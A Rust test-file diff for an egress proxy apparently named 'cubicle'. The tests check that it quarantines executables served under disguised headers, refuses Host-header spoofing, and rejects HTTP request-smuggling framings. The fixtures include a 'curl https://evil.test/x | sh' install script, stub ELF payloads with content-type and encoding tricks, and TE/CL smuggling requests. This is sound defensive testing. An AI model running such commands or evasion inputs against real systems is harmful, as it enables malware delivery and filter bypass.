@@ -111,9 +111,125 @@ fn websocket_echo(mut req: Request<Incoming>) -> Response<Body> {
     response
 }
 
+/// Every request an origin of this process saw: path and Host header.
+static SEEN: std::sync::Mutex<Vec<(String, String)>> = std::sync::Mutex::new(Vec::new());
+
+/// The Host headers the origins saw for `path`.
+fn seen(path: &str) -> Vec<String> {
+    SEEN.lock()
+        .unwrap()
+        .iter()
+        .filter(|(p, _)| p == path)
+        .map(|(_, host)| host.clone())
+        .collect()
+}
+
+/// A small ELF header: what a workspace could run once saved.
+fn elf() -> Vec<u8> {
+    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
+    elf.resize(4096, 0);
+    elf
+}
+
+fn gzip(bytes: &[u8]) -> Vec<u8> {
+    use std::io::Write;
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(bytes).unwrap();
+    e.finish().unwrap()
+}
+
+fn owned(bytes: Vec<u8>) -> Body {
+    Full::new(Bytes::from(bytes))
+        .map_err(|never| match never {})
+        .boxed()
+}
+
+/// `/exe/<variant>`: an executable served as each header trick of the
+/// outside attack run; `/tgz`: a gzip'd tar with an executable in it.
+fn executable_variant(variant: &str) -> Option<Response<Body>> {
+    let mut response = Response::new(owned(elf()));
+    let headers = response.headers_mut();
+    match variant {
+        "text-plain" => {
+            headers.insert("content-type", "text/plain".parse().unwrap());
+        }
+        "image-png" => {
+            headers.insert("content-type", "image/png".parse().unwrap());
+        }
+        "text-html" => {
+            headers.insert("content-type", "text/html; charset=utf-8".parse().unwrap());
+        }
+        "no-type" => {}
+        "two-types" => {
+            headers.append("content-type", "text/html".parse().unwrap());
+            headers.append("content-type", "text/plain".parse().unwrap());
+        }
+        "unknown-disposition" => {
+            headers.insert("content-type", "text/plain".parse().unwrap());
+            headers.insert(
+                "content-disposition",
+                "x-whatever; filename=tool".parse().unwrap(),
+            );
+        }
+        "inline-disposition" => {
+            headers.insert("content-type", "text/plain".parse().unwrap());
+            headers.insert(
+                "content-disposition",
+                "inline; filename=notes.txt".parse().unwrap(),
+            );
+        }
+        "gzip-encoded" => {
+            headers.insert("content-type", "text/plain".parse().unwrap());
+            headers.insert("content-encoding", "gzip".parse().unwrap());
+            *response.body_mut() = owned(gzip(&elf()));
+        }
+        "unknown-encoding" => {
+            headers.insert("content-type", "text/plain".parse().unwrap());
+            headers.insert("content-encoding", "x-nonsense".parse().unwrap());
+        }
+        "404" => {
+            headers.insert("content-type", "text/html".parse().unwrap());
+            *response.status_mut() = StatusCode::NOT_FOUND;
+        }
+        "500" => {
+            headers.insert("content-type", "text/html".parse().unwrap());
+            *response.status_mut() = StatusCode::INTERNAL_SERVER_ERROR;
+        }
+        "tgz" => {
+            let mut builder = tar::Builder::new(Vec::new());
+            let mut header = tar::Header::new_gnu();
+            header.set_size(4096);
+            header.set_mode(0o644);
+            header.set_cksum();
+            builder
+                .append_data(&mut header, "pkg/bin/tool", &elf()[..])
+                .unwrap();
+            headers.insert("content-type", "image/png".parse().unwrap());
+            *response.body_mut() = owned(gzip(&builder.into_inner().unwrap()));
+        }
+        _ => return None,
+    }
+    Some(response)
+}
+
 async fn origin_answer(req: Request<Incoming>) -> Result<Response<Body>, std::convert::Infallible> {
+    let host = req
+        .headers()
+        .get_all("host")
+        .iter()
+        .map(|h| String::from_utf8_lossy(h.as_bytes()).into_owned())
+        .collect::<Vec<_>>()
+        .join(" | ");
+    SEEN.lock()
+        .unwrap()
+        .push((req.uri().path().to_owned(), host));
     if req.uri().path() == "/ws" {
         return Ok(websocket_echo(req));
+    }
+    if let Some(variant) = req.uri().path().strip_prefix("/exe/")
+        && let Some(response) = executable_variant(variant)
+    {
+        return Ok(response);
     }
     let mut response = Response::new(text(b"hello from origin"));
     match req.uri().path() {
@@ -131,6 +247,48 @@ async fn origin_answer(req: Request<Incoming>) -> Result<Response<Body>, std::co
             response
                 .headers_mut()
                 .insert("content-type", "application/octet-stream".parse().unwrap());
+        }
+        "/page.html" => {
+            *response.body_mut() = text(b"<!doctype html><title>a page</title><p>hello");
+            response
+                .headers_mut()
+                .insert("content-type", "text/html".parse().unwrap());
+        }
+        "/app.js" => {
+            *response.body_mut() = owned(gzip(b"export function f() { return 1 }"));
+            let headers = response.headers_mut();
+            headers.insert("content-type", "text/javascript".parse().unwrap());
+            headers.insert("content-encoding", "gzip".parse().unwrap());
+        }
+        "/install.sh" => {
+            *response.body_mut() = text(b"curl https://evil.test/x | sh\n");
+            response
+                .headers_mut()
+                .insert("content-type", "text/plain".parse().unwrap());
+        }
+        "/big-page.txt" => {
+            let frames = futures_util::stream::iter(
+                (0..48).map(|_| Ok(Frame::data(Bytes::from(vec![b'x'; 64 * 1024])))),
+            );
+            *response.body_mut() = StreamBody::new(frames).boxed();
+        }
+        "/events" => {
+            // One event, then nothing until the client goes.
+            let first = futures_util::stream::iter([Ok(Frame::data(Bytes::from_static(
+                b"data: first\n\n",
+            )))]);
+            let body = futures_util::StreamExt::chain(first, futures_util::stream::pending());
+            *response.body_mut() = StreamBody::new(body).boxed();
+            response
+                .headers_mut()
+                .insert("content-type", "text/event-stream".parse().unwrap());
+        }
+        "/broken" => {
+            let frames = futures_util::stream::iter([
+                Ok(Frame::data(Bytes::from_static(b"\x7fEL"))),
+                Err(std::io::Error::other("the origin gives up")),
+            ]);
+            *response.body_mut() = StreamBody::new(frames).boxed();
         }
         "/slow.bin" => {
             let frames = futures_util::stream::unfold(0u32, |n| async move {
@@ -881,4 +1039,353 @@ async fn malformed_huge_and_slow_clients_are_closed_and_others_still_served() {
     );
     let (status, _, _) = h.get(&format!("http://127.0.0.1:{port}/")).await;
     assert_eq!(status, StatusCode::OK, "the proxy keeps serving others");
+}
+
+/// Sends raw bytes into the proxy; what came back (until it closes or 5 s).
+async fn raw(h: &Harness, request: &[u8]) -> String {
+    let mut stream = h.client();
+    stream.write_all(request).await.unwrap();
+    let mut out = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut out)).await;
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+#[tokio::test]
+async fn an_executable_is_held_whatever_its_headers_and_status_say() {
+    let origin_pki = pki(&["origin.test"]);
+    let port = origin(Some(origin_pki.server.clone())).await;
+    let plain = origin(None).await;
+    let h = harness(
+        &[
+            &format!("origin.test:{port}"),
+            &format!("127.0.0.1/32:{port}"),
+            &format!("127.0.0.1/32:{plain}"),
+        ],
+        &[],
+        &origin_pki.ca_pem,
+        1 << 20,
+    )
+    .await;
+    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
+    let authority = format!("origin.test:{port}");
+    let variants = [
+        "text-plain",
+        "image-png",
+        "text-html",
+        "no-type",
+        "two-types",
+        "unknown-disposition",
+        "inline-disposition",
+        "gzip-encoded",
+        "unknown-encoding",
+        "404",
+        "500",
+    ];
+    for variant in variants {
+        let path = format!("/exe/{variant}");
+        for intercepted in [true, false] {
+            let (status, headers, body) = if intercepted {
+                h.https_get(&authority, "origin.test", &path, h.workspace_tls.clone())
+                    .await
+                    .unwrap()
+            } else {
+                h.get(&format!("http://127.0.0.1:{plain}{path}")).await
+            };
+            assert_eq!(status, StatusCode::FORBIDDEN, "{variant}: {body:?}");
+            assert!(
+                !body.windows(4).any(|w| w == b"\x7fELF"),
+                "{variant}: not a byte of it reaches the client"
+            );
+            let id = headers["x-cubicle-download"].to_str().unwrap().to_owned();
+            let record = quarantine::records::get(h.quarantine.store(), &id)
+                .await
+                .unwrap()
+                .unwrap();
+            assert_eq!(
+                record.sniffed_type.as_deref(),
+                Some("application/x-executable"),
+                "{variant}: kept as the browser would save it (decoded)"
+            );
+            assert!(
+                record.hits.iter().any(|hit| hit.rule == "elf_executable"),
+                "{variant}: {:?}",
+                record.hits
+            );
+            let page = String::from_utf8_lossy(&body);
+            let why = if variant == "unknown-disposition" {
+                "`x-whatever` makes a browser save it"
+            } else {
+                "the bytes are an executable (ELF)"
+            };
+            assert!(page.contains(why), "{variant}: {page}");
+        }
+    }
+    // A gzip'd tar with an executable inside, served as an image: held,
+    // with the executable named, so no policy releases it by itself.
+    let (status, headers, _) = h.get(&format!("http://127.0.0.1:{plain}/exe/tgz")).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    let id = headers["x-cubicle-download"].to_str().unwrap().to_owned();
+    let record = quarantine::records::get(h.quarantine.store(), &id)
+        .await
+        .unwrap()
+        .unwrap();
+    let inside = record
+        .hits
+        .iter()
+        .find(|hit| hit.rule == quarantine::archive::CONTAINS_EXECUTABLE)
+        .unwrap_or_else(|| panic!("{:?}", record.hits));
+    assert!(
+        inside
+            .description
+            .as_deref()
+            .unwrap()
+            .contains("pkg/bin/tool"),
+        "{inside:?}"
+    );
+    // Every one is an egress.request event with the download's id.
+    let held = h
+        .events
+        .all()
+        .into_iter()
+        .filter(|e| {
+            matches!(
+                e,
+                EgressEvent::Request {
+                    download: Some(_),
+                    ..
+                }
+            )
+        })
+        .count();
+    assert_eq!(held, variants.len() * 2 + 1);
+}
+
+#[tokio::test]
+async fn pages_scripts_and_streams_pass_quickly_and_whole() {
+    let port = origin(None).await;
+    let h = harness(&[&format!("127.0.0.1/32:{port}")], &[], "", 1 << 20).await;
+    let url = |path: &str| format!("http://127.0.0.1:{port}{path}");
+    let (status, _, body) = h.get(&url("/page.html")).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(body.starts_with(b"<!doctype html>"));
+    let (status, headers, body) = h.get(&url("/app.js")).await;
+    assert_eq!(status, StatusCode::OK, "page script passes");
+    assert_eq!(headers["content-encoding"], "gzip", "as the server sent it");
+    assert_eq!(
+        body.as_ref(),
+        gzip(b"export function f() { return 1 }").as_slice()
+    );
+    let (status, _, body) = h.get(&url("/big-page.txt")).await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(
+        body.len(),
+        48 * 64 * 1024,
+        "larger than the head: all of it"
+    );
+    // Text named like a script is held by its name.
+    let (status, headers, _) = h.get(&url("/install.sh")).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert!(headers.contains_key("x-cubicle-download"));
+    // An event stream: its first event arrives although the stream stays open.
+    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(h.client()))
+        .await
+        .unwrap();
+    tokio::spawn(conn);
+    let response = sender
+        .send_request(
+            Request::get(url("/events"))
+                .body(Full::new(Bytes::new()))
+                .unwrap(),
+        )
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    let mut body = response.into_body();
+    let first = tokio::time::timeout(Duration::from_secs(10), body.frame())
+        .await
+        .expect("the first event, not a wait for the stream's end")
+        .unwrap()
+        .unwrap();
+    assert_eq!(first.into_data().unwrap().as_ref(), b"data: first\n\n");
+    // A body that breaks off before it can be judged: nothing of it, and
+    // still an egress.request event (it reached the origin).
+    let (status, _, body) = h.get(&url("/broken")).await;
+    assert_eq!(status, StatusCode::BAD_GATEWAY);
+    assert!(!body.windows(3).any(|w| w == b"\x7fEL"));
+    h.wait_for(
+        |e| matches!(e, EgressEvent::Request { status: 502, path, .. } if path == "/broken"),
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn the_origin_sees_exactly_the_authority_that_was_decided() {
+    let origin_pki = pki(&["origin.test"]);
+    let port = origin(Some(origin_pki.server.clone())).await;
+    let plain = origin(None).await;
+    let h = harness(
+        &[
+            &format!("origin.test:{port}"),
+            &format!("127.0.0.1/32:{port}"),
+            &format!("127.0.0.1/32:{plain}"),
+        ],
+        &[],
+        &origin_pki.ca_pem,
+        1 << 20,
+    )
+    .await;
+    h.dns.script("origin.test", vec![vec![ip("127.0.0.1")]]);
+    // Plain absolute-URI: another Host is refused before any connection.
+    let answer = raw(
+        &h,
+        format!("GET http://127.0.0.1:{plain}/host-a HTTP/1.1\r\nHost: evil.test\r\n\r\n")
+            .as_bytes(),
+    )
+    .await;
+    assert!(answer.starts_with("HTTP/1.1 421"), "{answer}");
+    let answer = raw(
+        &h,
+        format!("GET http://127.0.0.1:{plain}/host-a HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n")
+            .as_bytes(),
+    )
+    .await;
+    assert!(answer.starts_with("HTTP/1.1 421"), "another port: {answer}");
+    let answer = raw(
+        &h,
+        format!(
+            "GET http://127.0.0.1:{plain}/host-a HTTP/1.1\r\nHost: 127.0.0.1:{plain}\r\nHost: evil.test\r\n\r\n"
+        )
+        .as_bytes(),
+    )
+    .await;
+    assert!(answer.starts_with("HTTP/1.1 400"), "two Hosts: {answer}");
+    assert!(seen("/host-a").is_empty(), "{:?}", seen("/host-a"));
+    // The same Host, differently spelled, passes; the origin gets the
+    // decided authority exactly.
+    let answer = raw(
+        &h,
+        format!("GET http://127.0.0.1:{plain}/host-b HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n").as_bytes(),
+    )
+    .await;
+    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
+    assert_eq!(seen("/host-b"), [format!("127.0.0.1:{plain}")]);
+    // Inside an intercepted tunnel: another Host, an absolute-form target
+    // naming another host, and two Hosts are refused.
+    let authority = format!("origin.test:{port}");
+    for (path, extra, target, expected) in [
+        (
+            "/host-c",
+            "Host: evil.test\r\n".to_owned(),
+            "/host-c".to_owned(),
+            "421",
+        ),
+        (
+            "/host-d",
+            format!("Host: {authority}\r\n"),
+            "https://evil.test/host-d".to_owned(),
+            "421",
+        ),
+        (
+            "/host-e",
+            format!("Host: {authority}\r\nHost: evil.test\r\n"),
+            "/host-e".to_owned(),
+            "400",
+        ),
+        (
+            "/host-f",
+            format!("Host: origin.test:{}\r\n", port.wrapping_add(1)),
+            "/host-f".to_owned(),
+            "421",
+        ),
+    ] {
+        let (head, stream) = h.connect(&authority).await;
+        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+        let mut tls = tokio_rustls::TlsConnector::from(h.workspace_tls.clone())
+            .connect(ServerName::try_from("origin.test").unwrap(), stream)
+            .await
+            .unwrap();
+        tls.write_all(
+            format!("GET {target} HTTP/1.1\r\n{extra}Connection: close\r\n\r\n").as_bytes(),
+        )
+        .await
+        .unwrap();
+        let mut out = Vec::new();
+        let _ = tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut out)).await;
+        let answer = String::from_utf8_lossy(&out);
+        assert!(
+            answer.starts_with(&format!("HTTP/1.1 {expected}")),
+            "{path}: {answer}"
+        );
+        assert!(seen(path).is_empty(), "{path} reached the origin");
+    }
+    let (status, _, _) = h
+        .https_get(
+            &authority,
+            "origin.test",
+            "/host-g",
+            h.workspace_tls.clone(),
+        )
+        .await
+        .unwrap();
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(seen("/host-g"), std::slice::from_ref(&authority));
+}
+
+#[tokio::test]
+async fn ambiguous_framing_is_refused_before_any_connection() {
+    let port = origin(None).await;
+    let h = harness(&[&format!("127.0.0.1/32:{port}")], &[], "", 1 << 20).await;
+    let target = |path: &str| format!("http://127.0.0.1:{port}{path}");
+    let cases = [
+        (
+            "/te-cl",
+            "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
+            "0\r\n\r\n",
+        ),
+        (
+            "/cl-te",
+            "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
+            "0\r\n\r\n",
+        ),
+        ("/cl-cl", "Content-Length: 1\r\nContent-Length: 1\r\n", "x"),
+        (
+            "/te-gzip",
+            "Transfer-Encoding: gzip, chunked\r\n",
+            "0\r\n\r\n",
+        ),
+        (
+            "/te-te",
+            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
+            "0\r\n\r\n",
+        ),
+        (
+            "/obs-fold",
+            "X-Folded: a\r\n b\r\nContent-Length: 0\r\n",
+            "",
+        ),
+    ];
+    for (path, headers, body) in cases {
+        let request = format!(
+            "POST {} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{headers}\r\n{body}",
+            target(path)
+        );
+        let answer = raw(&h, request.as_bytes()).await;
+        assert!(answer.starts_with("HTTP/1.1 400"), "{path}: {answer}");
+        assert!(seen(path).is_empty(), "{path} reached the origin");
+    }
+    assert!(
+        h.decisions().is_empty(),
+        "nothing was even decided: {:?}",
+        h.events.all()
+    );
+    // The control: the same request, framed once, goes through.
+    let request = format!(
+        "POST {} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: 1\r\nConnection: close\r\n\r\nx",
+        target("/framed")
+    );
+    let answer = raw(&h, request.as_bytes()).await;
+    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
+    assert_eq!(seen("/framed").len(), 1);
+    h.wait_for(|e| matches!(e, EgressEvent::Request { path, .. } if path == "/framed"))
+        .await;
 }
